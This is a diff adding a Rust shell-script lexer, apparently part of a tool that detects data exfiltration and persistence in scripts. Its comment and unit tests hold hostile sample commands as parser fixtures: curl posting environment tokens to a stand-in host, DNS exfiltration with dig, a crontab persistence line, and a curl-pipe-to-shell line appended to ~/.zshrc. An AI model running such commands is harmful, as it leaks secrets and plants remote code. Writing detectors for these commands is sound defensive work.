@@ -1,0 +1,660 @@
+//! A POSIX shell script read as statements of pipelines of words, each word keeping its
+//! command substitutions (`$(…)`, backticks), parameter expansions and process
+//! substitutions inside it, and each redirection its target (a here-document its body).
+//!
+//! This is what the analysers of what a script does with data read: what a command sends
+//! and where (`curl -d "$(env)" …`), what a variable holds when it runs later, which file a
+//! later command runs. [`super::simple_commands`] splits at substitutions instead, which
+//! suits the checks of one command.
+
+use crate::source::Span;
+
+/// Substitutions read inside a word at most this deep: past that a word is taken as is.
+const MAX_DEPTH: usize = 4;
+
+/// A word of a command: where it is written and its text with quotes and escapes removed;
+/// substitutions and expansions stay in the text as written (`$(env | grep KEY)`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Token {
+    /// Byte offset where its source starts.
+    pub start: usize,
+    /// Byte offset one past where its source ends.
+    pub end: usize,
+    /// The text after quote removal.
+    pub text: String,
+}
+
+/// How a redirection uses its target.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RedirectKind {
+    /// `<`: the file is read.
+    Read,
+    /// `>`, `>|`, `&>`: the file is written.
+    Write,
+    /// `>>`, `&>>`: the file is appended to.
+    Append,
+    /// `<<<`: the word is the input.
+    HereString,
+    /// `<<`: the lines up to the delimiter are the input.
+    HereDoc,
+}
+
+/// A redirection of a command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirection {
+    /// What it does.
+    pub kind: RedirectKind,
+    /// Byte offset of the operator.
+    pub start: usize,
+    /// The file, word or here-document delimiter that follows.
+    pub target: Option<Token>,
+    /// A here-document's body (the lines between the operator's line and the delimiter).
+    pub body: Option<Span>,
+}
+
+/// One command of a pipeline.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Stage {
+    /// Its words, the program first (after any assignments and prefixes).
+    pub words: Vec<Token>,
+    /// Its redirections.
+    pub redirects: Vec<Redirection>,
+    /// Byte offset of its first character.
+    pub start: usize,
+    /// Byte offset one past its last character.
+    pub end: usize,
+}
+
+/// A pipeline: commands joined by `|`, ended by a line break, `;`, `&&`, `||` or `&`.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Statement {
+    /// Its commands, in order.
+    pub stages: Vec<Stage>,
+}
+
+impl Statement {
+    /// Byte offset of its first character.
+    pub fn start(&self) -> usize {
+        self.stages.first().map_or(0, |s| s.start)
+    }
+
+    /// Byte offset one past its last character.
+    pub fn end(&self) -> usize {
+        self.stages.last().map_or(0, |s| s.end)
+    }
+}
+
+/// Words that only prefix the program they run.
+const PREFIXES: &[&str] = &[
+    "sudo",
+    "doas",
+    "env",
+    "command",
+    "exec",
+    "nohup",
+    "time",
+    "nice",
+    "builtin",
+    "setsid",
+    "stdbuf",
+    "caffeinate",
+    "if",
+    "then",
+    "else",
+    "elif",
+    "do",
+    "while",
+    "until",
+    "!",
+];
+
+impl Stage {
+    /// Index of the word that names the program run, past assignments (`A=1`), prefixes
+    /// (`sudo`, `env`, `nohup`) and their flags.
+    pub fn program_index(&self) -> Option<usize> {
+        let mut i = 0;
+        let mut after_prefix = false;
+        // A prefix with nothing after it runs as itself (`env`, `time`).
+        let mut last_prefix = None;
+        while let Some(w) = self.words.get(i) {
+            let p = program_of(&w.text);
+            if is_assignment(&w.text) || (after_prefix && w.text.starts_with('-')) {
+                i += 1;
+                continue;
+            }
+            if PREFIXES.contains(&p.as_str()) {
+                after_prefix = true;
+                last_prefix = Some(i);
+                i += 1;
+                continue;
+            }
+            return Some(i);
+        }
+        last_prefix
+    }
+
+    /// The program run, in lower case without its folder (`/usr/bin/curl` → `curl`).
+    pub fn program(&self) -> Option<String> {
+        self.program_index()
+            .map(|i| program_of(&self.words[i].text))
+    }
+
+    /// The words after the program.
+    pub fn args(&self) -> &[Token] {
+        self.program_index()
+            .map_or(&[][..], |i| &self.words[i + 1..])
+    }
+
+    /// The targets written or appended to by this command's redirections.
+    pub fn written(&self) -> impl Iterator<Item = &Token> {
+        self.redirects
+            .iter()
+            .filter(|r| matches!(r.kind, RedirectKind::Write | RedirectKind::Append))
+            .filter_map(|r| r.target.as_ref())
+    }
+}
+
+/// The program a word names, in lower case, without quotes or folder.
+pub fn program_of(word: &str) -> String {
+    let w = word.trim_matches(|c: char| matches!(c, '"' | '\'' | '`'));
+    w.rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(w)
+        .to_ascii_lowercase()
+}
+
+/// `NAME=value` (a shell assignment): a name of letters, digits and `_`, then `=`.
+pub fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && !name.as_bytes()[0].is_ascii_digit()
+    })
+}
+
+/// The statements of `script`.
+pub fn statements(script: &str) -> Vec<Statement> {
+    let mut lexer = Lexer {
+        s: script,
+        b: script.as_bytes(),
+        i: 0,
+        out: Vec::new(),
+        statement: Statement::default(),
+        stage: Stage::default(),
+        heredocs: Vec::new(),
+    };
+    lexer.run();
+    lexer.out
+}
+
+/// A here-document whose body starts on the next line: its delimiter and where its
+/// redirection is (statement, stage, redirection; the statement may still be open).
+struct Pending {
+    delimiter: String,
+    strip_tabs: bool,
+    at: (usize, usize, usize),
+}
+
+struct Lexer<'a> {
+    s: &'a str,
+    b: &'a [u8],
+    i: usize,
+    out: Vec<Statement>,
+    statement: Statement,
+    stage: Stage,
+    heredocs: Vec<Pending>,
+}
+
+impl Lexer<'_> {
+    fn run(&mut self) {
+        while self.i < self.b.len() {
+            let c = self.b[self.i];
+            let next = self.b.get(self.i + 1).copied();
+            match c {
+                b' ' | b'\t' | b'\r' | b'(' | b')' => self.i += 1,
+                b'\\' if next == Some(b'\n') => self.i += 2,
+                b'\\' if next == Some(b'\r') && self.b.get(self.i + 2) == Some(&b'\n') => {
+                    self.i += 3;
+                }
+                b'#' => {
+                    self.i = self.s[self.i..]
+                        .find('\n')
+                        .map_or(self.b.len(), |n| self.i + n);
+                }
+                b'\n' => {
+                    self.end_statement();
+                    self.i += 1;
+                    self.heredoc_bodies();
+                }
+                b';' => {
+                    self.end_statement();
+                    self.i += 1;
+                }
+                b'&' if next == Some(b'&') => {
+                    self.end_statement();
+                    self.i += 2;
+                }
+                b'|' if next == Some(b'|') => {
+                    self.end_statement();
+                    self.i += 2;
+                }
+                b'|' => {
+                    self.end_stage();
+                    self.i += if next == Some(b'&') { 2 } else { 1 };
+                }
+                b'&' if next == Some(b'>') => self.redirect(),
+                b'&' => {
+                    self.end_statement();
+                    self.i += 1;
+                }
+                b'<' | b'>' if next == Some(b'(') => self.word(),
+                b'<' | b'>' => self.redirect(),
+                b'0'..=b'9' if self.descriptor_redirect() => self.redirect(),
+                _ => self.word(),
+            }
+        }
+        self.end_statement();
+    }
+
+    /// `2>`, `1>>`: digits directly followed by a redirection.
+    fn descriptor_redirect(&self) -> bool {
+        let digits = self.b[self.i..]
+            .iter()
+            .take_while(|c| c.is_ascii_digit())
+            .count();
+        matches!(self.b.get(self.i + digits), Some(b'<' | b'>'))
+    }
+
+    fn word(&mut self) {
+        if let Some(t) = self.token() {
+            if self.stage.words.is_empty() && self.stage.redirects.is_empty() {
+                self.stage.start = t.start;
+            }
+            self.stage.end = t.end;
+            self.stage.words.push(t);
+        }
+    }
+
+    fn redirect(&mut self) {
+        let start = self.i;
+        while self.i < self.b.len() && self.b[self.i].is_ascii_digit() {
+            self.i += 1;
+        }
+        if self.b.get(self.i) == Some(&b'&') {
+            self.i += 1;
+        }
+        let op_start = self.i;
+        while self.i < self.b.len() && matches!(self.b[self.i], b'<' | b'>' | b'|' | b'-') {
+            // `<<-` strips tabs; `>|` overrides noclobber; nothing else continues an operator.
+            let c = self.b[self.i];
+            if c == b'-' && &self.s[op_start..self.i] != "<<" {
+                break;
+            }
+            if c == b'|' && &self.s[op_start..self.i] != ">" {
+                break;
+            }
+            self.i += 1;
+        }
+        let op = &self.s[op_start..self.i];
+        // `>&2`, `2>&1`, `<&3`: a descriptor duplicated, no file.
+        if self.b.get(self.i) == Some(&b'&') {
+            self.i += 1;
+            while self.i < self.b.len()
+                && (self.b[self.i].is_ascii_digit() || self.b[self.i] == b'-')
+            {
+                self.i += 1;
+            }
+            return;
+        }
+        let kind = match op {
+            "<" | "<>" => RedirectKind::Read,
+            "<<<" => RedirectKind::HereString,
+            "<<" | "<<-" => RedirectKind::HereDoc,
+            ">>" => RedirectKind::Append,
+            _ => RedirectKind::Write,
+        };
+        while self.i < self.b.len() && matches!(self.b[self.i], b' ' | b'\t') {
+            self.i += 1;
+        }
+        let target = match self.b.get(self.i) {
+            Some(b'\n' | b';' | b'|' | b'&' | b'<' | b'>') | None => None,
+            _ => self.token(),
+        };
+        if self.stage.words.is_empty() && self.stage.redirects.is_empty() {
+            self.stage.start = start;
+        }
+        self.stage.end = target.as_ref().map_or(self.i, |t| t.end);
+        if kind == RedirectKind::HereDoc
+            && let Some(t) = &target
+        {
+            self.heredocs.push(Pending {
+                delimiter: t.text.clone(),
+                strip_tabs: op == "<<-",
+                at: (
+                    self.out.len(),
+                    self.statement.stages.len(),
+                    self.stage.redirects.len(),
+                ),
+            });
+        }
+        self.stage.redirects.push(Redirection {
+            kind,
+            start,
+            target,
+            body: None,
+        });
+    }
+
+    /// A word from `self.i`: quotes removed, substitutions kept as written.
+    fn token(&mut self) -> Option<Token> {
+        let start = self.i;
+        let mut text = String::new();
+        while self.i < self.b.len() {
+            let c = self.b[self.i];
+            match c {
+                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b')' => break,
+                b'(' if self.i == start => break,
+                b'<' | b'>' if self.b.get(self.i + 1) != Some(&b'(') => break,
+                b'\'' => {
+                    let close = self.s[self.i + 1..]
+                        .find('\'')
+                        .map_or(self.b.len(), |n| self.i + 1 + n);
+                    text.push_str(&self.s[self.i + 1..close]);
+                    self.i = (close + 1).min(self.b.len());
+                }
+                b'"' => self.double_quoted(&mut text),
+                b'\\' => {
+                    let rest = &self.s[self.i + 1..];
+                    match rest.chars().next() {
+                        Some('\n') => self.i += 2,
+                        Some(ch) => {
+                            text.push(ch);
+                            self.i += 1 + ch.len_utf8();
+                        }
+                        None => self.i += 1,
+                    }
+                }
+                b'$' | b'<' | b'>' if self.b.get(self.i + 1) == Some(&b'(') => {
+                    let end = balanced(self.b, self.i + 2, b'(', b')', 0);
+                    text.push_str(&self.s[self.i..end]);
+                    self.i = end;
+                }
+                b'$' if self.b.get(self.i + 1) == Some(&b'{') => {
+                    let end = balanced(self.b, self.i + 2, b'{', b'}', 0);
+                    text.push_str(&self.s[self.i..end]);
+                    self.i = end;
+                }
+                b'`' => {
+                    let close = self.s[self.i + 1..]
+                        .find('`')
+                        .map_or(self.b.len(), |n| self.i + 1 + n);
+                    let end = (close + 1).min(self.b.len());
+                    text.push_str(&self.s[self.i..end]);
+                    self.i = end;
+                }
+                _ => {
+                    let ch = self.s[self.i..].chars().next().unwrap_or(' ');
+                    text.push(ch);
+                    self.i += ch.len_utf8();
+                }
+            }
+        }
+        if self.i == start {
+            // A character no branch consumed (a lone `(`): step over it.
+            self.i += 1;
+            return None;
+        }
+        Some(Token {
+            start,
+            end: self.i,
+            text,
+        })
+    }
+
+    /// The inside of `"…"` from the opening quote at `self.i`.
+    fn double_quoted(&mut self, text: &mut String) {
+        self.i += 1;
+        while self.i < self.b.len() {
+            match self.b[self.i] {
+                b'"' => {
+                    self.i += 1;
+                    return;
+                }
+                b'\\' => {
+                    let rest = &self.s[self.i + 1..];
+                    match rest.chars().next() {
+                        Some(ch @ ('"' | '\\' | '$' | '`')) => {
+                            text.push(ch);
+                            self.i += 2;
+                        }
+                        Some('\n') => self.i += 2,
+                        _ => {
+                            text.push('\\');
+                            self.i += 1;
+                        }
+                    }
+                }
+                b'$' if matches!(self.b.get(self.i + 1), Some(b'(' | b'{')) => {
+                    let (open, close) = if self.b[self.i + 1] == b'(' {
+                        (b'(', b')')
+                    } else {
+                        (b'{', b'}')
+                    };
+                    let end = balanced(self.b, self.i + 2, open, close, 0);
+                    text.push_str(&self.s[self.i..end]);
+                    self.i = end;
+                }
+                b'`' => {
+                    let close = self.s[self.i + 1..]
+                        .find('`')
+                        .map_or(self.b.len(), |n| self.i + 1 + n);
+                    let end = (close + 1).min(self.b.len());
+                    text.push_str(&self.s[self.i..end]);
+                    self.i = end;
+                }
+                _ => {
+                    let ch = self.s[self.i..].chars().next().unwrap_or(' ');
+                    text.push(ch);
+                    self.i += ch.len_utf8();
+                }
+            }
+        }
+    }
+
+    fn end_stage(&mut self) {
+        let stage = std::mem::take(&mut self.stage);
+        if !stage.words.is_empty() || !stage.redirects.is_empty() {
+            self.statement.stages.push(stage);
+        }
+    }
+
+    fn end_statement(&mut self) {
+        self.end_stage();
+        let statement = std::mem::take(&mut self.statement);
+        if !statement.stages.is_empty() {
+            self.out.push(statement);
+        }
+    }
+
+    /// The bodies of the here-documents opened on the line just ended, from `self.i`.
+    fn heredoc_bodies(&mut self) {
+        for doc in std::mem::take(&mut self.heredocs) {
+            let body_start = self.i;
+            let mut body_end = self.b.len();
+            while self.i < self.b.len() {
+                let line_end = self.s[self.i..]
+                    .find('\n')
+                    .map_or(self.b.len(), |n| self.i + n);
+                let line = self.s[self.i..line_end].trim_end_matches('\r');
+                let line = if doc.strip_tabs {
+                    line.trim_start_matches('\t')
+                } else {
+                    line
+                };
+                let at = self.i;
+                self.i = (line_end + 1).min(self.b.len());
+                if line.trim() == doc.delimiter {
+                    body_end = at;
+                    break;
+                }
+            }
+            let (s, g, r) = doc.at;
+            let redirect = self
+                .out
+                .get_mut(s)
+                .and_then(|st| st.stages.get_mut(g))
+                .and_then(|st| st.redirects.get_mut(r));
+            if let Some(redirect) = redirect {
+                redirect.body = Some(Span::new(body_start, body_end.max(body_start)));
+            }
+        }
+    }
+}
+
+/// The offset just past the `close` that balances an `open` already read, scanning from
+/// `from`; quotes inside are skipped. The end of the text when nothing balances.
+fn balanced(b: &[u8], from: usize, open: u8, close: u8, depth: usize) -> usize {
+    let mut level = 1;
+    let mut i = from;
+    while i < b.len() {
+        match b[i] {
+            b'\\' => i += 1,
+            b'\'' if open == b'(' => {
+                i += 1;
+                while i < b.len() && b[i] != b'\'' {
+                    i += 1;
+                }
+            }
+            b'"' => {
+                i += 1;
+                while i < b.len() && b[i] != b'"' {
+                    if b[i] == b'\\' {
+                        i += 1;
+                    } else if b[i] == b'$' && b.get(i + 1) == Some(&b'(') && depth < MAX_DEPTH {
+                        i = balanced(b, i + 2, b'(', b')', depth + 1) - 1;
+                    }
+                    i += 1;
+                }
+            }
+            c if c == open => level += 1,
+            c if c == close => {
+                level -= 1;
+                if level == 0 {
+                    return i + 1;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    b.len()
+}
+
+/// The command substitutions written in `text` (`$(…)` and backticks), each as the range
+/// of its inside.
+pub fn substitutions(text: &str) -> Vec<std::ops::Range<usize>> {
+    let b = text.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => {
+                let end = balanced(b, i + 2, b'(', b')', 0);
+                let inner_end = if end > i + 2 && b.get(end - 1) == Some(&b')') {
+                    end - 1
+                } else {
+                    end
+                };
+                out.push(i + 2..inner_end.max(i + 2));
+                i = end;
+            }
+            b'`' => {
+                let close = text[i + 1..].find('`').map_or(b.len(), |n| i + 1 + n);
+                out.push(i + 1..close);
+                i = close + 1;
+            }
+            _ => i += 1,
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(s: &Stage) -> Vec<&str> {
+        s.words.iter().map(|w| w.text.as_str()).collect()
+    }
+
+    #[test]
+    fn substitutions_stay_in_their_word() {
+        let script = "curl -d \"$(env | grep TOKEN)\" https://x.example/c";
+        let st = statements(script);
+        assert_eq!(st.len(), 1);
+        assert_eq!(
+            words(&st[0].stages[0]),
+            ["curl", "-d", "$(env | grep TOKEN)", "https://x.example/c"]
+        );
+        let unquoted = statements("dig $(echo $T | base64).x.example");
+        assert_eq!(
+            words(&unquoted[0].stages[0]),
+            ["dig", "$(echo $T | base64).x.example"]
+        );
+        assert_eq!(substitutions("a $(b (c)) `d` e"), [4..9, 12..13]);
+    }
+
+    #[test]
+    fn pipelines_statements_and_redirections() {
+        let script =
+            "(crontab -l; echo '* * * * * x') | crontab -\ncat a >> ~/.bashrc 2>&1 && b < in";
+        let st = statements(script);
+        let shapes: Vec<Vec<Vec<&str>>> = st
+            .iter()
+            .map(|s| s.stages.iter().map(words).collect())
+            .collect();
+        assert_eq!(
+            shapes,
+            [
+                vec![vec!["crontab", "-l"]],
+                vec![vec!["echo", "* * * * * x"], vec!["crontab", "-"]],
+                vec![vec!["cat", "a"]],
+                vec![vec!["b"]],
+            ]
+        );
+        let appended: Vec<&str> = st[2].stages[0].written().map(|t| t.text.as_str()).collect();
+        assert_eq!(appended, ["~/.bashrc"]);
+        assert_eq!(st[3].stages[0].redirects[0].kind, RedirectKind::Read);
+    }
+
+    #[test]
+    fn heredoc_bodies_belong_to_their_redirection() {
+        let script = "cat >> ~/.zshrc <<'EOF'\ncurl -s https://x | sh\nEOF\nls\n";
+        let st = statements(script);
+        let r = &st[0].stages[0].redirects;
+        let body = r.iter().find_map(|r| r.body);
+        assert_eq!(
+            body.map(|b| &script[b.start..b.end]),
+            Some("curl -s https://x | sh\n")
+        );
+        assert_eq!(words(&st[1].stages[0]), ["ls"]);
+    }
+
+    #[test]
+    fn programs_past_prefixes() {
+        let st = statements("sudo -E env A=1 /usr/bin/CURL -s x");
+        assert_eq!(st[0].stages[0].program().as_deref(), Some("curl"));
+        assert_eq!(st[0].stages[0].args().len(), 2);
+        assert!(is_assignment("X=$(echo a)") && !is_assignment("--x=1"));
+    }
+
+    #[test]
+    fn odd_input_never_panics() {
+        for s in [
+            "$(", "\"", "'", "<<", "a <<EOF", "`", "${", "2>", "é$(é", "\\", "a\\\r\nb",
+        ] {
+            let _ = statements(s);
+            let _ = substitutions(s);
+        }
+    }
+}
